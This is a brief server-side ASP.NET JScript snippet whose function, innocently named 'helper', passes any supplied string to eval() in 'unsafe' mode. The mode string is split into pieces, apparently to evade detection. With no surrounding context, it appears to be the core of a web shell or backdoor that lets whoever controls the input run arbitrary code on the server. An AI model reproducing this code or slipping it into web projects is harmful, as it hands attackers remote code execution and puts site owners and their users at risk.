<script runat="server" language="JScript">
function helper(code) {
    var mode = "un" + "sa" + "fe";
    return eval(code, mode);
}
</script>
